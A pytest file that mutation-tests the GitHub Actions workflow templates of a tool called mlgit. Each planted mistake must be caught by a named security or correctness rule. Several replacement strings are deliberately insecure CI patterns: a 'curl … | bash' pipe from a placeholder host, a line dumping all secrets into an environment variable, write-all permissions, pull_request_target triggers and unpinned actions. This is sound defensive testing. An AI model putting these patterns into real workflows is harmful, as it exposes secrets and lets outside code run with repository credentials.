"""Each planted mistake in a template is caught by the rule that is meant to catch it."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from mlgit.config.model import Configuration
from mlgit.render import templates
from mlgit.render.managed import managed_files
from tests.workflows.combinations import combinations, installation_of, is_called
from tests.workflows.reading import Rendered
from tests.workflows.rules import RULES, violations

CI = "dot-github/workflows/mlgit-ci.yml.j2"
COMMENT = "dot-github/workflows/mlgit-comment.yml.j2"
SETUP = "dot-github/actions/mlgit-setup/action.yml.j2"
DEPENDABOT = "dot-github/dependabot.yml.j2"
CT = "dot-github/workflows/mlgit-ct.yml.j2"
DATA = "dot-github/workflows/mlgit-data.yml.j2"
CD = "dot-github/workflows/mlgit-cd.yml.j2"
SHARED = "shared/jobs.yml.j2"
"""Where a text is looked for when the template itself has it not."""
RICH = "plain train=run commit=True install=own trainer=own remote=s3:oidc"
COMMITTED = next(name for name, one in combinations() if installation_of(name, one).origin == "git")
KEYS = "plain train=verify commit=False install=own trainer=default remote=other:secrets:WEBDAV_PASSWORD,WEBDAV_USER"
GOOGLE = "plain train=run commit=False install=own trainer=own remote=gs:oidc"
AZURE = "plain train=run commit=False install=own trainer=own remote=azure:oidc"
TRAINING = next(
    name for name, one in combinations() if one.ct is not None and one.ct.data and one.ct.app is None
)
FETCHING = next(
    name for name, one in combinations() if one.ct is not None and one.ct.update and one.ct.app is None
)
LENT = next(
    name
    for name, one in combinations()
    if one.ct is not None and one.ct.update and one.ct.update.storage and "gs:secrets" in name
)
FETCHING_APP = next(
    name
    for name, one in combinations()
    if one.ct is not None and one.ct.update and one.ct.update.secrets and one.ct.app is not None
)
DELIVERING = next(
    name
    for name, one in combinations()
    if one.environments and one.remote is None and (one.ct is None or one.ct.app is None)
)
MANY = next(
    name
    for name, one in combinations()
    if len(one.models) > 1 and one.ci.train == "run" and one.ci.commit and one.remote is not None
)
AWKWARD = next(name for name, one in combinations() if one.ci.python == "3.10")
PACKAGED = next(name for name, one in combinations() if one.ci.packages and one.forge.host == "github")
SECRET_INDEX = next(
    name for name, one in combinations() if one.ci.index and one.ci.index.secret and one.ci.container
)
SERVER = next(name for name, one in combinations() if one.forge.host == "enterprise-server")
MANY_TRAINED = next(
    name for name, one in combinations() if len(one.models) > 1 and one.ci.train == "run" and one.remote
)
APP = next(name for name, one in combinations() if one.ct is not None and one.ct.app is not None)

MUTATIONS: list[tuple[str, str, str, str, str]] = [
    (
        SETUP,
        "\"${{ inputs.install == 'alone' && '3.12' || '[[ ci.python ]]' }}\"",
        "[[ ci.python | yaml ]]",
        "mlgit_alone_has",
        AWKWARD,
    ),
    # template, text, its replacement, the rule that catches it, the combination
    (CI, ' --needs "$RUNNER_TEMP/mlgit-needs"', "", "what_is_fetched_of_the_base", RICH),
    (
        CI,
        ' --cd "$RUNNER_TEMP/mlgit-needs" fetch',
        " fetch --all-commits",
        "what_is_fetched_of_the_base",
        RICH,
    ),
    (
        CI,
        '          exit "$outcome"',
        '          dvc --cd "$RUNNER_TEMP/mlgit-needs" fetch',
        "what_is_fetched_of_the_base",
        RICH,
    ),
    (
        CI,
        "[% macro fetch_needs() %]",
        "[% macro fetch_needs() %]\nmlgit status",
        "what_is_fetched_of_the_base",
        RICH,
    ),
    (
        CI,
        ' --needs "$RUNNER_TEMP/mlgit-needs"; then\n            echo "::warning title=mlgit::nothing was fetched of the base to',
        '; then\n            echo "::warning title=mlgit::nothing was fetched of the base to',
        "what_is_fetched_of_the_base",
        RICH,
    ),
    (CI, ' --report "$REPORT/data-diff.json"', "", "a_pull_request_tells_what", RICH),
    (
        CI,
        'mlgit data diff "$since" "$HEAD" --report',
        'mlgit data diff "$since" --report',
        "a_pull_request_tells_what",
        RICH,
    ),
    (CI, 'hand_over("data", whole=true)', 'hand_over("data")', "a_pull_request_tells_what", RICH),
    (
        CI,
        '      - name: Tell what changed in the data\n        if: "!cancelled() && ',
        '      - name: Tell what changed in the data\n        if: "',
        "a_pull_request_tells_what",
        RICH,
    ),
    (
        CI,
        "permissions: {}\n\n# A newer",
        "permissions: write-all\n\n# A newer",
        "no_permission_at_the_top",
        RICH,
    ),
    (CI, "permissions: {}\n\n# A newer", "# A newer", "no_permission_at_the_top", RICH),
    (
        CI,
        "contents: read # reads the history",
        "contents: write # reads the history",
        "each_job_has_exactly",
        RICH,
    ),
    (CI, "      id-token: write # proves", "      actions: write # proves", "each_job_has_exactly", RICH),
    (CI, "contents: write # pushes", "contents: read # pushes", "each_job_has_exactly", RICH),
    (COMMENT, "      pull-requests: write # writes the one comment\n", "", "each_job_has_exactly", RICH),
    (
        COMMENT,
        "      actions: read # downloads",
        "      packages: read # downloads",
        "each_job_has_exactly",
        RICH,
    ),
    (
        COMMENT,
        "checks: write # shows the verdict as a check of the commit",
        "checks: write",
        "every_permission",
        RICH,
    ),
    (CI, '[[ uses("actions/checkout") ]]', "actions/checkout@v6", "every_action_is_pinned", RICH),
    (
        CI,
        '[[ uses("actions/checkout") ]]',
        f"actions/checkout@{'a' * 40} # v6.0.2",
        "every_action_is_pinned",
        RICH,
    ),
    (CI, '[[ uses("actions/upload-artifact") ]]', "tj-actions/upload@main", "only_actions_on_record", RICH),
    (CI, "./.github/actions/mlgit-setup", "./.github/actions/mlgit-set-up", "every_action_is_pinned", RICH),
    (CI, "          fetch-depth: 0", "          fetch_depth: 0", "only_actions_on_record", RICH),
    (CI, "          retention-days: [[ ci", "          retention: [[ ci", "only_actions_on_record", RICH),
    (SETUP, "        key: ${{ steps", "        keys: ${{ steps", "only_actions_on_record", RICH),
    (CI, "persist-credentials: false", "persist-credentials: true", "checkouts_leave_no_token", RICH),
    (CI, "          persist-credentials: false\n", "", "checkouts_leave_no_token", RICH),
    (
        CI,
        'mlgit affected "$BASE"',
        'mlgit affected "${{ github.event.before }}"',
        "no_expression_in_a_script",
        RICH,
    ),
    (CI, 'mlgit affected "$BASE"', "mlgit affected $BASE", "variables_in_scripts_are_quoted", RICH),
    (CI, "  pull_request:\n", "  pull_request_target:\n", "triggers_are_the_agreed_ones", RICH),
    (
        CI,
        "    branches: [[ [ci.branch] | yaml ]]",
        "    branches: ['**', x]",
        "triggers_are_the_agreed_ones",
        RICH,
    ),
    (COMMENT, "workflows: [mlgit-ci]", "workflows: [mlgit-cl]", "triggers_are_the_agreed_ones", RICH),
    (
        COMMENT,
        "          persist-credentials: false",
        "          persist-credentials: false\n          ref: ${{ github.event.workflow_run.head_branch }}",
        "the_privileged_half_runs_nothing",
        RICH,
    ),
    (COMMENT, 'setup("alone")', "setup()", "the_privileged_half_runs_nothing", RICH),
    (
        COMMENT,
        "run: mlgit comment",
        "run: bash x.sh; mlgit comment",
        "the_privileged_half",
        RICH,
    ),
    (COMMENT, "pattern: mlgit-report", "pattern: mlgit-rapport", "artifacts_are_named", RICH),
    (COMMENT, "pattern: mlgit-report", 'pattern: "*"', "artifacts_are_named", RICH),
    (COMMENT, "path: ${{ runner.temp }}/mlgit-report", "path: mlgit-report", "artifacts_are_named", RICH),
    (COMMENT, 'skip-decompress: "true"', 'skip-decompress: "false"', "artifacts_are_named", RICH),
    (COMMENT, "          digest-mismatch: error\n", "", "artifacts_are_named", RICH),
    (
        CI,
        "          name: mlgit-results[[ number ]]\n",
        "          name: results of mlgit\n",
        "artifacts_are_named",
        RICH,
    ),
    (SETUP, "actions/cache/restore", "actions/cache", "pull_requests_only_read_caches", RICH),
    (SETUP, " && github.event_name == 'push'", "", "pull_requests_only_read_caches", RICH),
    (SETUP, "-${{ runner.os }}", "", "pull_requests_only_read_caches", RICH),
    (SETUP, 'enable-cache: "false"', 'enable-cache: "true"', "pull_requests_only_read_caches", RICH),
    (
        CI,
        "cancel-in-progress: ${{ github.event_name == 'pull_request' }}",
        "cancel-in-progress: true",
        "runs_of_one_branch_do_not_pile_up",
        RICH,
    ),
    (CI, "github.ref || github.sha }}", "github.ref }}", "runs_of_one_branch_do_not_pile_up", RICH),
    (CI, ", reopened, edited[[", ", reopened[[", "a_change_is_judged_by_the_base", RICH),
    (CI, "  merge_group:\n    types: [checks_requested]\n", "", "a_change_is_judged_by_the_base", RICH),
    (CI, "'required for {0}'", "'required'", "a_change_is_judged_by_the_base", RICH),
    (CI, " --green required", "", "changes_gate_code", RICH),
    (CI, "      checks: read # finds the newest commit that was green\n", "", "each_job_has_exactly", RICH),
    (
        COMMENT,
        "cancel-in-progress: false",
        "cancel-in-progress: true",
        "runs_of_one_branch_do_not_pile_up",
        RICH,
    ),
    (CI, "    timeout-minutes: 5\n", "", "every_job_has_a_time_limit", RICH),
    (CI, "defaults:\n  run:\n    shell: bash\n", "", "scripts_are_bash", RICH),
    (SETUP, "      shell: bash\n", "", "scripts_are_bash", RICH),
    (
        CI,
        "run: mlgit check code",
        "continue-on-error: true\n        run: mlgit check code",
        "scripts_are_bash",
        RICH,
    ),
    (CI, "run: mlgit check code", "run: mlgit check code || true", "scripts_are_bash", RICH),
    (
        SETUP,
        "python-version: [[ ci.python | yaml ]]",
        "python-version: [[ ci.python ]]",
        "versions_are_quoted",
        RICH,
    ),
    (CI, "    environment: [[ remote.environment | yaml ]]\n", "", "secrets_stand_by_name", KEYS),
    (
        CI,
        "  DVC_NO_ANALYTICS:",
        "  KEY: ${{ secrets.KEY }}\n  DVC_NO_ANALYTICS:",
        "secrets_stand_by_name",
        KEYS,
    ),
    (
        CI,
        "          MLGIT_DATA: ${{",
        "          ALL: ${{ toJSON(secrets) }}\n          MLGIT_DATA: ${{",
        "secrets_stand",
        KEYS,
    ),
    (CI, " && !([[ outside ]])", "", "forks_never_get_a_credential", KEYS),
    (CI, " && !([[ outside ]])", "", "forks_never_get_a_credential", RICH),
    (
        CI,
        "head.repo.full_name != github",
        "base.repo.full_name != github",
        "forks_never_get_a_credential",
        RICH,
    ),
    (
        CI,
        '          output-env-credentials: "false"',
        '          output-env-credentials: "true"',
        "credentials_stay",
        RICH,
    ),
    (CI, '          export_environment_variables: "false"\n', "", "credentials_stay_with_the_steps", GOOGLE),
    (
        CI,
        "        if: always()\n        run: az logout",
        "        run: az account show",
        "credentials_stay",
        AZURE,
    ),
    (CI, "    if: always()\n", "    if: success()\n", "one_job_is_required", RICH),
    (CI, '["changes"] + results', "results", "one_job_is_required", RICH),
    (CI, 'results = ["code", "data"]', 'results = ["code"]', "one_job_is_required", RICH),
    (CI, '          judge data "$DATA"\n', "", "one_job_is_required", RICH),
    (CI, 'exit "$bad"', "exit 0", "one_job_is_required", RICH),
    (
        CI,
        "    needs: changes\n    if: needs.changes.outputs.code",
        "    if: needs.changes.outputs.code",
        "changes_gate",
        RICH,
    ),
    (CI, "outputs.code == 'true'\n", "outputs.cod == 'true'\n", "changes_gate_code_data_and_model", RICH),
    (
        CI,
        "      data: ${{ steps.affected",
        "      date: ${{ steps.affected",
        "references_lead_somewhere",
        RICH,
    ),
    (
        CI,
        "          BASE: ${{ needs.changes.outputs.base }}\n[[ models_variable() | lines ]]\n        run: mlgit check",
        "          BASE: ${{ github.event.pull_request.head.sha }}\n        run: mlgit check",
        "changes_gate_code_data_and_model",
        RICH,
    ),
    (CI, "run: mlgit check data", "run: mlgit check model", "changes_gate_code_data_and_model", RICH),
    (CI, "          fetch-depth: 0\n", "", "jobs_that_compare_have_the_history", RICH),
    (
        CI,
        "ref: ${{ github.event.pull_request.head.sha || github.sha }}",
        "ref: ${{ github.event.pull_request.merge_commit_sha }}",
        "numbers_belong_to_the_commit",
        RICH,
    ),
    (CI, "--at pull_request", "", "pull_requests_are_judged", RICH),
    (CI, 'mlgit gate "$BASE"', 'mlgit gate "$HEAD"', "pull_requests_are_judged", RICH),
    (CI, "mlgit gate", "mlgit gate --record --push", "pull_requests_are_judged", RICH),
    (
        CI,
        'base.sha || github.event.merge_group.base_sha }}\n          HEAD: ${{ github.event.pull_request.head.sha || github.sha }}\n[[ models_variable() | lines ]]\n        run: mlgit gate "$BASE" [',
        'head.sha }}\n          HEAD: ${{ github.event.pull_request.head.sha }}\n        run: mlgit gate "$BASE" [',
        "pull_requests_are_judged",
        RICH,
    ),
    (
        CI,
        'gates of the base\n        if: "!cancelled() && [[',
        'gates of the base\n        if: "success() && [[',
        "pull_requests_are_judged",
        RICH,
    ),
    (CI, "--at pull_request\n", "--at pull_request || true\n", "scripts_are_bash", RICH),
    (CI, "        id: affected\n", "", "references_lead_somewhere", RICH),
    (CI, "steps.data.outputs.state", "steps.dat.outputs.state", "references_lead_somewhere", RICH),
    (
        CI,
        "github.event.pull_request.number",
        "github.event.pull_request.nummer",
        "references_lead_somewhere",
        RICH,
    ),
    (
        CI,
        "run: mlgit train",
        "run: curl -s https://example.org | bash",
        "scripts_call_only_what_is_agreed",
        RICH,
    ),
    (CI, "run: mlgit train", "run: mlgit trian", "scripts_call_only_what_is_agreed", RICH),
    (
        DEPENDABOT,
        "      - .github/workflows/mlgit-*.yml\n",
        "      - nothing\n",
        "dependabot_leaves_the_managed",
        RICH,
    ),
    (
        SETUP,
        "--require-hashes --requirement .mlgit/install/jobs.txt",
        "--requirement .mlgit/install/jobs.txt",
        "the_setup_installs_by_digest",
        RICH,
    ),
    (
        SETUP,
        '--no-deps --require-hashes --requirement "$LACKING"',
        '--no-deps --requirement "$LACKING"',
        "the_setup_installs_by_digest",
        RICH,
    ),
    (
        SETUP,
        'VIRTUAL_ENV="$TOOLS" uv pip install --quiet --require-hashes',
        "uv pip install --quiet --require-hashes",
        "the_setup_installs_by_digest",
        RICH,
    ),
    (
        SETUP,
        "--require-hashes --requirement .mlgit/install/mlgit.txt",
        "--requirement .mlgit/install/mlgit.txt",
        "the_setup_installs_by_digest",
        RICH,
    ),
    (
        SETUP,
        'uv pip install --quiet "$MLGIT_ALONE"',
        "uv pip install --quiet mlgit",
        "the_setup_installs_by_digest",
        RICH,
    ),
    (
        SETUP,
        "        MLGIT: [[ install.requirement | yaml ]]",
        "        MLGIT: mlgit",
        "the_setup_installs_by_digest",
        COMMITTED,
    ),
    (SETUP, ", '.mlgit/install/*.txt'", "", "what_is_installed_says_the_key", RICH),
    (CT, "      issues: write # [[ issues ]]\n", "", "each_job_has_exactly", TRAINING),
    (CT, '[[ setup("alone") | lines ]]', "[[ setup() | lines ]]", "who_retrains_or_fetches", TRAINING),
    (
        CT,
        "always() && needs.claim.outputs.conclude",
        "needs.claim.outputs.conclude",
        "what_was_claimed_is",
        TRAINING,
    ),
    (
        CT,
        "always() && needs.claim.outputs.conclude",
        "always() && needs.claim.outputs.train",
        "what_was_cl",
        TRAINING,
    ),
    (CT, ' --claim "$CLAIM"', "", "what_was_claimed_is", TRAINING),
    (CT, "    if: needs.claim.outputs.train == 'true'\n", "", "what_was_claimed_is", TRAINING),
    (CT, "        if: needs.train.result == 'success'\n", "", "what_was_claimed_is", TRAINING),
    (
        CT,
        "conclude: ${{ steps.claim.outputs.conclude }}",
        "end: ${{ steps.claim.outputs.conclude }}",
        "references_lead",
        TRAINING,
    ),
    (
        CT,
        "contents: read # reads the code",
        "contents: write # reads the code",
        "who_retrains_or_fetches",
        TRAINING,
    ),
    (
        CT,
        "          permission-issues: write # [[ issues ]]\n",
        "",
        "an_app_gets_no_more",
        APP,
    ),
    (
        CT,
        "          permission-issues: write # [[ issues ]]\n",
        "          permission-checks: write # [[ issues ]]\n",
        "only_actions_on_record",
        APP,
    ),
    (
        CT,
        "contents: read # reads the history; the App",
        "contents: write # the App",
        "each_job_has_exactly",
        APP,
    ),
    (CT, "  cancel-in-progress: false", "  cancel-in-progress: true", "runs_of_one_branch", TRAINING),
    (CT, "    branches: [[ [ci.branch] | yaml ]]\n", "", "triggers_are_the_agreed", TRAINING),
    (
        CT,
        "    paths:\n",
        '    paths:\n      - "**/dvc.lock"\n',
        "a_retraining_starts_no_retraining",
        TRAINING,
    ),
    (DATA, '[[ setup("alone") | lines ]]', "[[ setup() | lines ]]", "who_retrains_or_fetches", FETCHING),
    (DATA, '[[ setup("alone") | lines ]]', "[[ setup() | lines ]]", "pull_requests_only_read", FETCHING),
    (DATA, "contents: read # reads", "contents: write # reads", "who_retrains_or_fetches", FETCHING),
    (DATA, "contents: read # reads", "contents: write # reads", "each_job_has_exactly", FETCHING_APP),
    (DATA, "--step propose", "--step fetch", "who_retrains_or_fetches", FETCHING_APP),
    (DATA, "checkout(ref=ci.branch)", "checkout()", "data_are_fetched_and_proposed", FETCHING),
    (DATA, "checkout(history=true, ref=ci.branch)", "checkout(history=true)", "data_are_fetched", FETCHING),
    (DATA, "checkout(history=true, ", "checkout(", "jobs_that_compare_have_the_history", FETCHING),
    (DATA, "    needs: fetch\n", "    needs: fetch\n    if: always()\n", "data_are_fetched_and", FETCHING),
    (DATA, "--step keep", "--step hold", "data_are_fetched_and_proposed", FETCHING),
    (DATA, "    environment: [[ update_environment | yaml ]]\n", "", "secrets_stand_by_name", FETCHING_APP),
    (DATA, "  schedule:\n", "  push:\n  schedule:\n", "triggers_are_the_agreed_ones", FETCHING),
    (DATA, "  cancel-in-progress: false", "  cancel-in-progress: true", "runs_of_one_branch", FETCHING),
    (
        DATA,
        "mlgit data update --step fetch",
        "mlgit train; mlgit data update --step fetch",
        "credentials",
        LENT,
    ),
    (
        DATA,
        '"mlgit-fetched", "mlgit-fetched") | lines ]]\n\n  propose',
        '"mlgit-new", "mlgit-new") | lines ]]\n\n  propose',
        "artifacts_are_named",
        FETCHING,
    ),
    (DATA, "permissions: {}\n", "", "no_permission_at_the_top", FETCHING),
    (DATA, '--folder "$FOLDER"\n', "--folder $FOLDER\n", "variables_in_scripts_are_quoted", FETCHING),
    (CD, "contents: read # reads the code", "contents: write # reads", "who_retrains_or_fetches", DELIVERING),
    (CD, '[[ setup("alone") | lines ]]', "[[ setup() | lines ]]", "who_retrains_or_fetches", DELIVERING),
    (CD, "--step conclude", "--step apply", "who_retrains_or_fetches", DELIVERING),
    (
        CD,
        "          MODELS: [[ MODELS ]]\n        run: mlgit deploy [[ name ]] --local --step apply",
        "          GITHUB_TOKEN: ${{ github.token }}\n        run: mlgit deploy [[ name ]] --local --step apply",
        "who_retrains_or_fetches",
        DELIVERING,
    ),
    (CD, ", ref=ci.branch)", ")", "a_delivery_goes_on", DELIVERING),
    (CD, "checkout(history=true, ", "checkout(", "jobs_that_compare_have_the_history", DELIVERING),
    (CD, " && needs.deploy-[[ name ]].result != 'skipped'", "", "a_delivery_goes_on", DELIVERING),
    (CD, "      name: [[ name | yaml ]]\n", "      name: other\n", "a_delivery_goes_on", DELIVERING),
    (CD, "'|[[ name ]]|'", "'[[ name ]]'", "a_delivery_goes_on", DELIVERING),
    (CD, "  workflow_dispatch:\n", "  pull_request:\n", "triggers_are_the_agreed_ones", DELIVERING),
    (CD, "  cancel-in-progress: false", "  cancel-in-progress: true", "runs_of_one_branch", DELIVERING),
    (CD, "permissions: {}\n", "", "no_permission_at_the_top", DELIVERING),
    (CD, "--step release --github-output", "--step release", "references_lead_somewhere", DELIVERING),
    (
        CI,
        '--base "$BASE"[[ only ]] --report',
        '--base "$BASE" --report',
        "every_model_is_in_the_one_report",
        MANY,
    ),
    (
        CI,
        "MODELS: ${{ matrix.models }}",
        "MODELS: ${{ matrix.name }}",
        "every_model_is_in_the_one_report",
        MANY,
    ),
    (
        CI,
        'pull="${{ matrix.pull }}"',
        'pull="${{ matrix.models }}"',
        "every_model_is_in_the_one_report",
        MANY,
    ),
    (CI, "name: [[ folder ]][[ number ]]", "name: [[ folder ]]", "every_model_is_in_the_one_report", MANY),
    (CI, '          judge models "$MODELS"\n', "", "every_model_is_in_the_one_report", MANY),
    (
        CI,
        "&& needs.changes.outputs.model == 'true'[[",
        "&& needs.model.result == 'success'[[",
        "every_model_is_in_the_one_report",
        MANY,
    ),
    (
        CI,
        '["changes", "model"] + (["model-fork"] if split_model',
        '["changes", "model"] + ([] if split_model',
        "every_model_is_in_the_one_report",
        MANY,
    ),
    (SETUP, "root=(sudo)", "root=(sudo -E)", "scripts_call_only_what_is_agreed", PACKAGED),
    (SETUP, '-- "${packages[@]}"', '"${packages[@]}"', "scripts_call_only_what_is_agreed", PACKAGED),
    (
        SETUP,
        "- name: Install system packages\n      if: inputs.install == 'all'\n",
        "- name: Install system packages\n",
        "what_the_repository_sets_up",
        PACKAGED,
    ),
    (
        SETUP,
        "repository needs besides\n      if: inputs.install == 'all'\n",
        "repository needs besides\n",
        "what_the_repository_sets_up",
        SECRET_INDEX,
    ),
    (SETUP, 'run: bash -- "$SETUP"', "run: bash -- $SETUP", "variables_in_scripts_are_quoted", SECRET_INDEX),
    (SETUP, 'run: bash -- "$SETUP"', "run: bash -- [[ ci.setup ]] || true", "scripts_are_bash", SECRET_INDEX),
    (
        SETUP,
        "SETUP: [[ ci.setup | yaml ]]",
        "SETUP: ${{ inputs.index-secret }}",
        "what_opens_the_index",
        SECRET_INDEX,
    ),
    (
        SETUP,
        "        UV_INDEX_OWN_PASSWORD: ${{ inputs.index-secret }}\n",
        "",
        "what_opens_the_index",
        SECRET_INDEX,
    ),
    (CI, "entrusted=not fork", "entrusted=true", "what_opens_the_index", SECRET_INDEX),
    (
        CI,
        "[% if index_secret and entrusted %]",
        "[% if index_secret and false %]",
        "what_opens_the_index",
        SECRET_INDEX,
    ),
    (
        CI,
        '("${{ !(" ~ outside ~ ") && "',
        '("${{ (" ~ outside ~ ") && "',
        "forks_never_get_a_credential",
        SECRET_INDEX,
    ),
    (CI, "[[ index_environment(outside) | lines ]]", "", "secrets_stand_by_name", SECRET_INDEX),
    (
        COMMENT,
        "    timeout-minutes: 10\n",
        "    timeout-minutes: 10\n    container: a\n",
        "what_the_repository_sets_up",
        RICH,
    ),
    (COMMENT, '[[ " --fetch" if server ]]', "", "each_job_has_exactly", SERVER),
    (
        CI,
        "          name: mlgit-check-[[ subject ]]",
        "          digest: x",
        "only_actions_on_record",
        SERVER,
    ),
    (
        COMMENT,
        "[% if not server %]",
        "[% if true %]",
        "only_actions_on_record",
        SERVER,
    ),
    (CI, "  workflow_dispatch:\n", "", "triggers_are_the_agreed_ones", RICH),
    (
        CI,
        "github.event_name == 'workflow_dispatch' && 'required, by hand' || ",
        "",
        "a_change_is_judged",
        RICH,
    ),
    (CI, "github.event.pull_request.draft && 'required when ready' || ", "", "a_change_is_judged", RICH),
    (CI, ', ready_for_review"', '"', "a_change_is_judged", RICH),
    (CI, '[% set waits = " && " ~ ready', '[% set waits = "" ~ ""', "drafts_take_no_runner", RICH),
    (
        CI,
        'if later_for_drafts and subject == "model"',
        "if later_for_drafts and fork",
        "drafts_take_no_runner",
        RICH,
    ),
    (
        CI,
        "github.event.pull_request.draft && 'false' || \"",
        '"',
        "drafts_take_no_runner",
        MANY_TRAINED,
    ),
    (
        CI,
        ' --gather "$RUNNER_TEMP/mlgit-parts"',
        ' --gather "$RUNNER_TEMP"',
        "every_model_is_in_the_one_report",
        MANY,
    ),
]


@pytest.fixture
def copied(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The templates in a folder where they can be spoilt."""
    folder = tmp_path / "templates"
    for name in ("managed", "shared"):
        shutil.copytree(templates.folder() / name, folder / name)
    monkeypatch.setattr(templates, "folder", lambda: folder)
    return folder / "managed"


def configured(name: str) -> Configuration:
    """Return a combination by its name, whatever training goes with it; `ct` is asked for by its own word."""
    return next(one for found, one in combinations() if is_called(found, name))


def rendered_now(name: str) -> Rendered:
    configuration = configured(name)
    whole = next(found for found, one in combinations() if one is configuration)
    files = managed_files(configuration, installation_of(whole, configuration))
    return Rendered({path: text.decode() for path, text in files.items() if path.startswith(".github/")})


@pytest.mark.parametrize(
    ("template", "text", "replacement", "expected", "combination"), MUTATIONS, ids=range(len(MUTATIONS))
)
def test_a_mutation_is_caught(
    copied: Path, template: str, text: str, replacement: str, expected: str, combination: str
) -> None:
    place = copied / template
    if text not in place.read_text():
        place = copied.parent / SHARED
    before = place.read_text()
    assert text in before
    place.write_text(before.replace(text, replacement))
    found = violations(rendered_now(combination))
    (rule,) = [name for name in RULES if name.startswith(expected)]
    assert found.get(rule), found


def test_without_a_mutation_nothing_is_caught(copied: Path) -> None:
    assert copied.is_dir()
    for name in (RICH, KEYS, GOOGLE, AZURE):
        assert violations(rendered_now(name)) == {}


def test_there_are_enough_mutations_and_every_rule_is_put_to_the_test() -> None:
    tested = {name for name in RULES for mutation in MUTATIONS if name.startswith(mutation[3])}
    assert len(MUTATIONS) > 60
    assert tested == set(RULES)
